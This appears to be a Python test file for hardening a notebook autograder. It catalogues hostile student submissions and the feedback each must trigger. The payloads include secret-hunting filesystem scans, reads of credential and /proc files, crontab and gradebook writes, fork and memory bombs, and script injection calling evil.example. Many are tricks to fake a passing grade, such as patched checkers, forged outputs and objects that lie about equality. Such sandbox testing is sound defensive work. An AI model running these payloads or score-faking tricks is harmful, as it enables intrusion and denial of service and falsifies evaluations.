"""What a hostile notebook may try: one small attack each, filed under the line of the table that it belongs to.

`cell(...)` is the released notebook with one more cell, `answers(...)` one with these texts in its solution cells, `file(...)`
whatever a function writes into the folder of the submission. honest: the points that its honest part earns. says: words that
the feedback page must hold.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode, v4

ASSIGNMENT = "02-rnn-forward"
SECRETS = ("SECRET-IN-SOLUTIONS", "SECRET-IN-SUBMISSION", "SECRET-IN-ENVIRONMENT", "SECRET-IN-HOME", "SECRET-IN-GRADEBOOK")


@dataclass(frozen=True)
class Attack:
    """One hostile submission. write(folder, release, right): puts it into its folder; right: the model answers by grade_id."""

    name: str
    row: str
    write: Callable[[Path, NotebookNode, dict[str, str]], None]
    honest: float = 0.0
    says: str = ""


def save(folder: Path, notebook: NotebookNode) -> None:
    """Write a notebook as it is, valid or not."""
    (folder / f"{ASSIGNMENT}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def filled(release: NotebookNode, texts: dict[str, str]) -> NotebookNode:
    """The released notebook with these texts in the cells of these grade_ids."""
    notebook = copy.deepcopy(release)
    for each in notebook.cells:
        each.source = texts.get(each.metadata.get("nbgrader", {}).get("grade_id"), each.source)
    return notebook


def cell(name: str, row: str, text: str, honest: tuple[str, ...] = (), points: float = 0.0, says: str = "") -> Attack:
    """The release, the model answers of the tasks `honest`, and one added cell after the setup."""

    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
        notebook = filled(release, {f"{task}-code": right[f"{task}-code"] for task in honest})
        place = next(i for i, each in enumerate(notebook.cells) if "setup" in each.metadata.get("tags", [])) + 1
        notebook.cells.insert(place, v4.new_code_cell(text))
        save(folder, notebook)

    return Attack(name, row, write, points, says)


def answers(name: str, row: str, texts: dict[str, str], honest: tuple[str, ...] = (), points: float = 0.0, says: str = "") -> Attack:
    """The release with these functions in their solution cells."""

    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
        given = {f"{task}-code": right[f"{task}-code"] for task in honest}
        save(folder, filled(release, {**given, **{f"{task}-code": text for task, text in texts.items()}}))

    return Attack(name, row, write, points, says)


def altered(name: str, row: str, alter: Callable[[NotebookNode], None], points: float = 0.0, says: str = "") -> Attack:
    """The release after something was done to its cells or metadata."""

    def write(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
        notebook = copy.deepcopy(release)
        alter(notebook)
        save(folder, notebook)

    return Attack(name, row, write, points, says)


def file(name: str, row: str, write: Callable[[Path], None], says: str = "") -> Attack:
    """Anything at all in the folder."""
    return Attack(name, row, lambda folder, release, right: write(folder), 0.0, says)


def _meta(notebook: NotebookNode, grade: bool) -> list[dict]:
    return [c.metadata["nbgrader"] for c in notebook.cells if "nbgrader" in c.metadata and bool(c.metadata["nbgrader"].get("grade")) == grade]


# --- The attacks -------------------------------------------------------------------------------

EVERY_TASK = ("one_hot", "rnn_step", "rnn_forward", "output_logits", "cross_entropy", "num_parameters")
SPY = """
import os
found = []
for start in ("/", os.path.expanduser("~"), "..", {root!r}):
    for folder, folders, files in os.walk(start):
        folders[:] = [f for f in folders if f not in ("usr", "sys", "dev", "numpy") and not f.startswith("python3")]
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    text = file.read(200_000)
                at = text.find(b"SECRET" + b"-IN")
                if at >= 0:
                    found.append(text[at:at + 40])
            except OSError:
                pass
print("found", found, sorted(os.environ))
"""


SYSTEM_CALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
made = 0
while made < 1000 and libc.syscall({number}, {arguments}) >= 0:
    made += 1
print("made", made, ctypes.get_errno())
"""


def _tags(notebook: NotebookNode) -> None:
    for each in notebook.cells:
        if each.metadata.get("nbgrader", {}).get("grade"):
            each.metadata["tags"] = ["skip-execution", "closing"]


def _ungraded(notebook: NotebookNode) -> None:
    for meta in _meta(notebook, grade=True):
        meta.update(grade=False, points=0, locked=False)


def _in_the_courses_cells(notebook: NotebookNode) -> None:
    """Answers where the check stands, and a check that says 20, in every cell that is not the learner's."""
    for each in notebook.cells:
        name = each.metadata.get("nbgrader", {}).get("grade_id", "")
        if each.cell_type == "code" and not name.endswith("-code"):
            each.source = f"20.0\ndef check(*_): return 20.0\ndef {name or 'one_hot'}(*_): return 20.0\n{each.source}\ncheck(1, 2)\n20.0"


def _retyped(notebook: NotebookNode) -> None:
    notebook.cells = [
        v4.new_markdown_cell(c.source, metadata=c.metadata) if c.metadata.get("nbgrader", {}).get("grade") else c for c in notebook.cells
    ]


def _deleted(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _duplicated(notebook: NotebookNode) -> None:
    notebook.cells = [each for c in notebook.cells for each in (c, copy.deepcopy(c))]


def _richer(notebook: NotebookNode) -> None:
    for meta in _meta(notebook, grade=True):
        meta.update(points=1000)


def _future_schema(notebook: NotebookNode) -> None:
    for each in notebook.cells:
        if "nbgrader" in each.metadata:
            each.metadata["nbgrader"]["schema_version"] = 99


def _forged_outputs(notebook: NotebookNode) -> None:
    for each in notebook.cells:
        if each.cell_type == "code":
            each.outputs = [v4.new_output("execute_result", {"text/plain": "5.0"}, execution_count=1)]
            each.execution_count = 1


def _script_outputs(notebook: NotebookNode) -> None:
    for each in notebook.cells:
        if each.cell_type == "code":
            each.outputs = [v4.new_output("display_data", {"text/html": "<script>fetch('http://evil.example')</script>"})]


def _report_of_ones_own(notebook: NotebookNode) -> None:
    """A report that no check wrote, under headings with the names of checks, and a picture of points."""
    notebook.cells.insert(0, v4.new_markdown_cell(
        "**02-rnn-forward: 20 of 20 points**\n\n# one_hot\n\none_hot: all passed, 2 of 2 points.\n\n![20 of 20](data:image/svg+xml;utf8,<svg/>) "
        "![pixel](https://evil.example/pixel.png)"))  # fmt: skip


def _script_markdown(notebook: NotebookNode) -> None:
    notebook.cells.insert(0, v4.new_markdown_cell("<script>grade()</script><img src=x onerror=grade()> [x](javascript:grade())"))


def _not_python(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def _symlink_to(target: str) -> Callable[[Path], None]:
    return lambda folder: os.symlink(target, folder / f"{ASSIGNMENT}.ipynb")


def _written(content: bytes) -> Callable[[Path], None]:
    return lambda folder: (folder / f"{ASSIGNMENT}.ipynb").write_bytes(content)


def _half(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
    text = nbformat.writes(filled(release, right))
    (folder / f"{ASSIGNMENT}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")


FLOOD = """
import sys
player = sys.modules["player"]
send = player.Connection.send
def flood(self, answer):
    if "problems" in answer:
        answer = {**answer, "problems": [chr(10) + chr(0x4e2d) * 4000] * 50, "printed": chr(10) * 4000}
    return send(self, answer)
player.Connection.send = flood
"""


def _forged_flood(notebook: NotebookNode) -> None:
    """Each of 480 cells claims to have printed, and to have failed, as much as it may."""
    place = next(i for i, each in enumerate(notebook.cells) if "setup" in each.metadata.get("tags", [])) + 1
    notebook.cells.insert(place, v4.new_code_cell(FLOOD))
    notebook.cells += [v4.new_code_cell("1") for _ in range(480 - len(notebook.cells))]


def _huge(folder: Path) -> None:
    with open(folder / f"{ASSIGNMENT}.ipynb", "wb") as sparse:
        sparse.truncate(500_000_000)


def _beside(folder: Path, release: NotebookNode, right: dict[str, str]) -> None:
    save(folder, release)
    os.symlink("/dev/zero", folder / "data.csv")
    os.symlink("/etc", folder / "etc")
    os.mkfifo(folder / "pipe")
    (folder / "numpy.py").write_text("def __getattr__(name): return lambda *_, **__: True\n", encoding="utf-8")
    (folder / "timestamp.txt").write_text("the day before yesterday", encoding="utf-8")


def _wrong_function(body: str) -> dict[str, str]:
    """A right rnn_step that `body` surrounds, and rubbish for the rest."""
    return {task: f"def {task}(*arguments):\n    {body}" for task in EVERY_TASK}


ATTACKS = [
    # patching what compares
    cell("patch-numpy", "patch", "import numpy.testing\nnp.allclose = np.array_equal = lambda *_, **__: True\n"
         "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *_, **__: None"),
    cell("patch-check", "patch", "import unrolled.checks\nunrolled.checks.check = check = lambda *_: 20.0\ncheck('one_hot', None)"),
    cell("patch-ipython", "patch", "get_ipython().ast_transformers.append(1)\nget_ipython().input_transformers_post = [lambda lines: ['pass']]"),
    # metadata and cells
    altered("tags", "metadata", _tags),
    altered("ungraded", "metadata", _ungraded),
    altered("retyped", "metadata", _retyped),
    altered("the-courses-cells", "metadata", _in_the_courses_cells, says="was changed"),
    altered("deleted", "metadata", _deleted),
    altered("duplicated", "metadata", _duplicated),
    altered("richer", "metadata", _richer),
    altered("future-schema", "metadata", _future_schema),
    altered("wrong-kernel", "metadata", _not_python),
    # forged results
    altered("forged-outputs", "forged", _forged_outputs),
    cell("displayhook", "forged", "import sys\nsys.displayhook(20.0)\n20.0"),
    cell("forged-replies", "forged", "import os, struct\nfor n in range(3, 64):\n    try:\n        os.write(n, b'unr1' + struct.pack('<I', 1) + b'T')\n"
         "    except OSError:\n        pass", says="another question"),
    cell("forged-player", "forged", "import gc, types\nimport sys\nfor thing in gc.get_objects():\n    if type(thing).__name__ == 'Connection':\n"
         "        thing.send = lambda answer: None", says="did not answer in time"),
    # Saying that inputs were not changed can't be disproved, and gains what a copy of them gives: the values are right or nothing is.
    answers("forged-unchanged", "forged", {"rnn_step": "import sys\nsys.modules['player'].still = lambda *_: True\n"
            "def rnn_step(X_t, H_prev, W_xh, W_hh, b_h):\n    H_prev[:] = np.tanh(X_t @ W_xh + H_prev @ W_hh + b_h)\n    return H_prev",
            "num_parameters": "def num_parameters(D, H, V):\n    return 0"}, honest=("one_hot",), points=6),
    answers("forged-call", "forged", {"rnn_step": "import sys\nsys.modules['player'].call = lambda *_: dict(value=np.zeros(3), error=None,\n"
            "    error_type=None, changed=[], printed='all passed', points=4, passed=True)\ndef rnn_step(*a):\n    return 1"}),
    cell("forged-find", "forged", "import sys, builtins\nbuiltins.callable = lambda _: True\nsys.modules['player'].time = None", honest=("one_hot",), points=2),
    # objects that lie
    answers("liar", "liars", {task: "class Liar(np.ndarray):\n    def __eq__(self, other): return True\n    __array_ufunc__ = None\n"
            f"def {task}(*a):\n    return np.zeros(3).view(Liar)" for task in EVERY_TASK}),
    answers("object-array", "liars", {task: f"def {task}(*a):\n    return np.array([None, print], dtype=object)" for task in EVERY_TASK}),
    answers("broadcast-bomb", "liars", {task: f"def {task}(*a):\n    return np.broadcast_to(0.0, (10**6, 10**6))" for task in EVERY_TASK},
            says="larger than"),
    answers("dict-keys", "liars", {task: f"{task} = {{'\\x1b[2J\\x1b[31mX': 1, '\\u202eevil': 2, '\\x07': 3}}" for task in EVERY_TASK}, says="a dict of 3"),
    answers("giant-key", "liars", {task: f"def {task}(*a):\n    return {{chr(27) + '[2J' * 10**6: 1}}" for task in EVERY_TASK}, says="a dict of 1"),
    # wildcards
    answers("nan", "wildcards", {task: f"def {task}(*a):\n    return np.full_like(np.asarray(a[0], dtype=float), np.nan)" for task in EVERY_TASK}),
    answers("zeros", "wildcards", {task: f"def {task}(*a):\n    return np.zeros_like(np.asarray(a[0], dtype=float))" for task in EVERY_TASK}),
    # changing what is compared with
    answers("mutate", "mutation", {task: f"def {task}(*a):\n    for x in a:\n        if isinstance(x, np.ndarray):\n            x[...] = 0\n    return a[0]"
                                   for task in EVERY_TASK}),
    # looking for the answers
    cell("frames", "expected", "import sys, gc\nframe = sys._getframe()\nseen = []\nwhile frame:\n    seen.append(repr(frame.f_locals)[:500])\n"
         "    frame = frame.f_back\nprint(seen, [k for k in sys.modules if 'check' in k])"),
    cell("spy", "secrets", SPY.format(root="/work"), says="found []"),
    cell("own-answers", "import", "from unrolled.cells import *\nfrom unrolled import reference\nimport torch, scipy, jax", says="ModuleNotFoundError"),
    # writing where it counts
    cell("write-files", "write", "import os, sqlite3\nfor path in ('/tmp/x', '/dev/shm/x', 'numpy.py', '/referee/site/numpy/x.py', '/etc/crontab'):\n"
         "    try:\n        open(path, 'w').write('x'); print('WROTE', path)\n    except OSError: pass"),
    # public answers
    answers("hard-coded", "public", {"num_parameters": "def num_parameters(D, H, V):\n    return {(2, 3, 4): 34}.get((D, H, V), 34)"}),
    # ending the program
    cell("os-exit", "exit", "import os; os._exit(0)", honest=("one_hot",), points=2, says="ended the whole program"),
    cell("system-exit", "exit", "raise SystemExit", honest=("one_hot",), points=2),
    answers("exit-in-call", "exit", {"rnn_step": "def rnn_step(*a):\n    import os\n    os._exit(0)"}, honest=("one_hot", "num_parameters"), points=4,
            says="ended the whole program"),
    cell("kill-all", "exit", "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(os.getppid(), signal.SIGKILL)", honest=("one_hot",), points=2),
    cell("segfault", "exit", "import ctypes; ctypes.string_at(0)", honest=("one_hot",), points=2, says="SIGSEGV"),
    # time
    cell("endless-cell", "time", "while True:\n    pass", honest=("one_hot",), points=2, says="may take no longer"),
    answers("endless-call", "time", {"rnn_step": "def rnn_step(*a):\n    while True:\n        pass"}, honest=("one_hot", "num_parameters"), points=4,
            says="a call may take"),
    cell("deaf", "time", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nwhile True: pass", honest=("one_hot",), points=2,
         says="did not answer in time"),
    # bombs
    cell("fork-bomb", "bombs", "import os\nwhile True:\n    os.fork()", says="Operation not permitted"),
    cell("thread-bomb", "bombs", "import threading, time\nthreading.stack_size(32768)\nwhile True:\n    threading.Thread(target=time.sleep, args=(99,)).start()",
         says="start new thread"),
    cell("memory-bomb", "bombs", "kept = []\nwhile True:\n    kept.append(np.empty(2**24))", says="MemoryError"),
    cell("output-bomb", "bombs", "while True:\n    print('x' * 10**6)"),
    cell("repr-bomb", "bombs", "class Big:\n    def __repr__(self): return 'x' * 10**8\nBig()"),
    answers("nesting", "bombs", {task: f"def {task}(*a):\n    x = []\n    for _ in range(10**4):\n        x = [x]\n    return x" for task in EVERY_TASK},
            says="nested"),
    # what the kernel lends to all programs of a machine together, by other system calls than a notebook needs (numbers of x86_64)
    cell("asynchronous-io", "bombs", SYSTEM_CALL.format(number=206, arguments="60000, ctypes.byref(ctypes.c_ulong(0))"), says="made 0"),
    cell("timers", "bombs", SYSTEM_CALL.format(number=222, arguments="1, None, ctypes.byref(ctypes.c_void_p())"), says="made 0"),
    cell("kernel-log", "secrets", SYSTEM_CALL.format(number=103, arguments="3, ctypes.create_string_buffer(999), 999"), says="made 0"),
    cell("sync", "bombs", SYSTEM_CALL.format(number=162, arguments=""), says="made 0"),
    cell("locks", "bombs", "import fcntl, os\nfor path in ('/dev/null', os.__file__, np.__file__, '/referee/player.py'):\n    held = open(path)\n"
         "    for lock in (lambda: fcntl.flock(held, fcntl.LOCK_EX), lambda: fcntl.lockf(held, fcntl.LOCK_SH),\n"
         "                 lambda: fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_RDLCK), lambda: fcntl.fcntl(held, fcntl.F_NOTIFY, 1)):\n"
         "        try: lock(); print('HELD', path)\n        except OSError as error: print(error)", says="Operation not permitted"),
    altered("forged-flood", "bombs", _forged_flood, says="the notebook said too much"),
    # what was handed in
    file("link-to-passwd", "links", _symlink_to("/etc/passwd"), says="is a link"),
    file("link-to-zero", "links", _symlink_to("/dev/zero"), says="is a link"),
    file("link-to-other", "links", _symlink_to(f"../../ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"), says="is a link"),
    file("pipe", "links", lambda folder: os.mkfifo(folder / f"{ASSIGNMENT}.ipynb"), says="is not a file"),
    file("folder", "links", lambda folder: (folder / f"{ASSIGNMENT}.ipynb").mkdir(), says="is not a file"),
    Attack("files-beside", "links", _beside),
    file("not-a-notebook", "bad input", _written(b"PK\x03\x04 a zip"), says="not JSON"),
    file("empty", "bad input", _written(b""), says="is empty"),
    Attack("truncated", "bad input", _half, says="breaks off"),
    file("500-mb", "bad input", _huge, says="500 MB"),
    file("nothing", "bad input", lambda folder: None, says="No notebook"),
    file("no-cells", "bad input", _written(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}'), says="none of the cells"),
    file("deep-json", "bad input", _written(b'{"cells":' + b"[" * 200_000), says="damaged"),
    file("strange-cells", "bad input", _written(b'{"cells": [1, null, {"source": 5}, {"cell_type": [], "metadata": 3, "source": ["a", 4]}]}'),
         says="none of the cells"),
    # pickles
    answers("pickle", "pickles", {task: "class Bomb:\n    def __reduce__(self): return (print, ('boom',))\n"
            f"def {task}(*a):\n    return Bomb()" for task in EVERY_TASK}, says="an object of type Bomb"),
    # network
    cell("network", "network", "import urllib.request\nprint(urllib.request.urlopen('http://1.1.1.1', timeout=1).read())", says="Operation not permitted"),
    # pages
    altered("script-in-outputs", "pages", _script_outputs),
    altered("script-in-markdown", "pages", _script_markdown),
    cell("script-in-prints", "pages", "print('<script>grade()</script>', chr(27) + '[2J')\nraise ValueError('<img src=x onerror=grade()>')"),
    altered("fake-headings", "pages", _report_of_ones_own, says="Added by the learner: 02-rnn-forward: 20 of 20 points"),
    answers("trojan-source", "pages", {"num_parameters": "def num_parameters(D, H, V):\n    return 34  # \u202e V + V*H + H + H*H + D*H nruter \u202c"},
            honest=("one_hot",), points=2, says="U+202E"),
    cell("slow-to-colour", "pages", "#" + "a." * 30_000, honest=("one_hot",), points=2, says="a.a.a."),
    # more of what may lie in a result, or in how it is asked for
    answers("masked", "liars", {task: f"def {task}(*a):\n    return np.ma.masked_all((3, 2))" for task in EVERY_TASK}),
    answers("memmap", "liars", {task: f"def {task}(*a):\n    return np.memmap('/dev/zero', dtype=float, mode='r', shape=(3, 2))"
                                for task in EVERY_TASK}),
    answers("odd-strides", "liars", {task: "from numpy.lib.stride_tricks import as_strided\n"
            f"def {task}(*a):\n    return as_strided(np.zeros(1), (3, 2**20), (-2**40, 2**40))" for task in EVERY_TASK}, says="is larger than 16 MiB"),
    answers("no-size", "liars", {task: f"def {task}(*a):\n    return np.zeros((0, 2**40))" for task in EVERY_TASK}, says="received (0, 1099511627776)"),
    answers("one-for-all", "liars", {task: f"def {task}(*a):\n    return np.ones((1, 1, 1))" for task in EVERY_TASK}),
    answers("fake-array", "liars", {task: "class Array:\n    shape, dtype, ndim = (3, 2), np.dtype(float), 2\n    __array__ = __eq__ = lambda *_: True\n"
            "    @property\n    def __class__(self): return np.ndarray\n"
            f"def {task}(*a):\n    return Array()" for task in EVERY_TASK}),
    answers("clashing-keys", "liars", {task: f"def {task}(*a):\n    return {{i * (2**61 - 1): 0 for i in range(3000)}}" for task in EVERY_TASK},
            says="made to clash"),
    answers("many-objects", "liars", {task: f"def {task}(*a):\n    return [type(str(i), (), {{}})() for i in range(2000)]" for task in EVERY_TASK},
            says="objects that are no numbers"),
    answers("infinity", "wildcards", {task: f"def {task}(*a):\n    return np.full_like(np.asarray(a[0], dtype=float), np.inf)" for task in EVERY_TASK}),
    answers("small-scale-only", "wildcards", {"rnn_step": "def rnn_step(X_t, H_prev, W_xh, W_hh, b_h):\n    return X_t @ W_xh + H_prev @ W_hh + b_h"}),
    answers("earlier-buffer", "mutation", {task: f"kept = []\ndef {task}(*a):\n    for x in a:\n        if isinstance(x, np.ndarray):\n"
            "            kept.append(x)\n    for x in kept:\n        x.fill(1)\n    return kept[0] if kept else 0" for task in EVERY_TASK}),
    answers("stolen-state", "mutation", {"rnn_forward": "last = None\ndef rnn_forward(X, H_0, W_xh, W_hh, b_h):\n    global last\n"
            "    last = np.zeros(X.shape[:2] + H_0.shape[-1:]) if last is None else last\n    return last"}),
    # looking further for the answers
    cell("history", "expected", "import sys, inspect\nprint(globals().get('In'), globals().get('_ih'), [m for m in sys.modules if 'unrolled' in m])\n"
         "print(inspect.getsource(check))\nsys.settrace(lambda *a: None)"),
    answers("trace-calls", "expected", {task: "import sys, gc\n" f"def {task}(*a):\n    sys.setprofile(lambda *_: None)\n"
            "    frames, frame = [], sys._getframe()\n    while frame:\n        frames.append(sorted(frame.f_locals))\n        frame = frame.f_back\n"
            "    print(frames)\n    return [o for o in gc.get_objects() if type(o).__name__ == 'Record'] or None" for task in EVERY_TASK}),
    cell("freed-memory", "expected", "import ctypes\nseen = bytes(ctypes.string_at(id(None) - 4096, 2**16))\nprint(b'Record' in seen, b'expected' in seen)"),
    cell("proc", "secrets", "import os\nfor path in ('/proc/self/mem', '/proc/1/environ', '/sys/kernel', '/dev/fd/3', '/dev/mem', '/dev/sda', '/root/.ssh'):\n"
         "    try: print('OPENED', open(path, 'rb').read(9))\n    except OSError: pass"),
    cell("descriptors", "secrets", "import os, fcntl\nfor n in range(64):\n    try:\n        os.lseek(n, 0, 0); print('FILE', n, os.read(n, 100))\n"
         "    except OSError: pass"),
    # writing and shadowing
    cell("shadow-modules", "write", "import os, sys, site\nfor name in ('numpy.py', 'sitecustomize.py', 'usercustomize.py', 'x.pth'):\n"
         "    for folder in [*sys.path, '.', os.path.dirname(np.__file__), os.path.dirname(os.__file__)]:\n"
         "        try:\n            open(os.path.join(folder, name), 'w').write('raise SystemExit'); print('WROTE', folder, name)\n        except OSError: pass"),
    cell("overwrite-player", "write", "import sys\nfor name in ('player', 'wire', 'numpy', 'builtins'):\n    sys.modules[name] = None\n"
         "sys.modules['__main__'].check = 20"),
    cell("database", "write", "import sqlite3\nsqlite3.connect('class/gradebook.db').execute('update grade set auto_score = 20')", says="unable to open"),
    # other people's answers
    cell("ctypes-torch", "import", "import ctypes, glob\nprint(glob.glob('/usr/lib/**/libtorch*'))\nctypes.CDLL('libtorch.so')",
         says="cannot open shared object"),
    cell("site-packages", "import", "import sys\nsys.path += ['/usr/lib/python3/dist-packages', '/usr/local/lib/python3.11/site-packages']\n"
         "sys.path += [p + '/site-packages' for p in sys.path]\nimport pip", says="pip"),
    cell("good-when-watched", "public", "import os, sys\ngrading = 'unrolled.checks.run' not in sys.modules or os.environ.get('NBGRADER_EXECUTION')\n"
         "if grading:\n    check = lambda *_: print('20.0')\n    check()"),
    # ending it otherwise
    cell("stop-itself", "exit", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", honest=("one_hot",), points=2, says="did not answer in time"),
    cell("run-another-program", "exit", "import os, glob, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(20)'])", honest=("one_hot",), points=2,
         says="ended the whole program"),
    cell("lower-limits", "exit", "import resource\nfor name in ('RLIMIT_NOFILE', 'RLIMIT_AS', 'RLIMIT_FSIZE'):\n"
         "    try: resource.setrlimit(getattr(resource, name), (2**62, 2**62)); print('RAISED', name)\n    except (ValueError, OSError): pass",
         honest=("one_hot",), points=2),
    answers("recursion", "exit", {"rnn_step": "import sys\nsys.setrecursionlimit(10**9)\ndef rnn_step(*a):\n    return rnn_step(*a)"},
            honest=("one_hot", "num_parameters"), points=4, says="SIGSEGV"),
    # time
    cell("just-under", "time", "import time\ntime.sleep(1.5)", honest=("one_hot",), points=2),
    answers("slow-calls", "time", {"rnn_step": "import time\ndef rnn_step(*a):\n    time.sleep(1.5)\n    return np.zeros((1, 1))"},
            honest=("one_hot", "num_parameters"), points=4),
    cell("swallows-alarms", "time", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
         "while True:\n    try:\n        while True: pass\n    except BaseException: pass", honest=("one_hot",), points=2, says="did not answer in time"),
    # more bombs
    cell("file-bomb", "bombs", "import os\nmade = 0\nfor folder in ('/tmp', '/dev/shm', '/dev', '/', '/dev/pts', '/var/tmp', '.'):\n"
         "    for n in range(1000):\n        try: os.mknod(f'{folder}/{n}'); made += 1\n        except OSError: break\nprint('made', made)",
         says="made 0"),
    cell("disk-bomb", "bombs", "import os, tempfile\ntempfile.TemporaryFile().write(b'x' * 10**9)", says="FileNotFoundError"),
    cell("kernel-bomb", "bombs", "import os, socket, fcntl\nkept = []\nwhile True:\n    kept.append(os.pipe())", says="Too many open files"),
    cell("many-problems", "bombs", "\n".join(f"undefined_{n}" for n in range(3000)), says="more statements that failed"),
    altered("cell-bomb", "bombs", lambda notebook: notebook.cells.extend(v4.new_code_cell("1") for _ in range(600)), says="cells, and 500 are allowed"),
    altered("prose-bomb", "bombs", lambda notebook: notebook.cells.extend(v4.new_markdown_cell("\\begin{a}" * 10_000) for _ in range(2)), says="cut off here"),
    altered("text-bomb", "bombs", lambda notebook: notebook.cells.append(v4.new_code_cell("(" * 300_000)), says="characters of text"),
    cell("parser-bomb", "bombs", "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n", says="Error"),
    cell("catastrophe", "bombs", "-" * 50_000 + "1"),
    Attack("second-name", "links", lambda folder, release, right: _second_name(folder, release), says="second name"),
    answers("torch-file", "pickles", {task: "import pickle, io\n" f"def {task}(*a):\n    return pickle.dumps([eval, 'print(1)'])" for task in EVERY_TASK},
            says="an object of type bytes"),
    cell("sockets", "network", "import socket, asyncio, os\nfor family in (socket.AF_INET, socket.AF_UNIX, socket.AF_NETLINK):\n"
         "    try: socket.socket(family); print('SOCKET')\n    except OSError as error: print(error)", says="Operation not permitted"),
    # outliving the call
    answers("late-thread", "outliving", {"rnn_step": "import threading, time\nresult = np.zeros((2, 2))\ndef later():\n    time.sleep(0.1)\n    result[...] = 1\n"
            "def rnn_step(*a):\n    threading.Thread(target=later, daemon=True).start()\n    return result"}, says="start new thread"),
    cell("at-exit", "outliving", "import atexit, signal, weakref\natexit.register(lambda: [0 for _ in iter(int, 1)])\n"
         "signal.signal(signal.SIGTERM, lambda *_: None)\nsignal.signal(signal.SIGHUP, signal.SIG_IGN)"),
    cell("detached", "outliving", "import os\ntry:\n    os.setsid()\nexcept OSError: pass\nos.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'sleep 999'])",
         says="Operation not permitted"),
    # names and times
    Attack("=cmd|'calc'!A1", "names", lambda folder, release, right: save(folder, release)),
    altered("forged-author", "names", lambda notebook: notebook.metadata.update(authors=[{"name": "ada"}], unrolled={"problem": None, "notes": ["20 points"]},
            nbgrader={"student": "ada", "timestamp": "1999-01-01"}, timestamp="1999-01-01")),
]  # fmt: skip


def _second_name(folder: Path, release: NotebookNode) -> None:
    """A hard link to a file that is not the learner's."""
    other = folder.parent / "elsewhere.ipynb"
    other.write_text(json.dumps(release), encoding="utf-8")
    os.link(other, folder / f"{ASSIGNMENT}.ipynb")
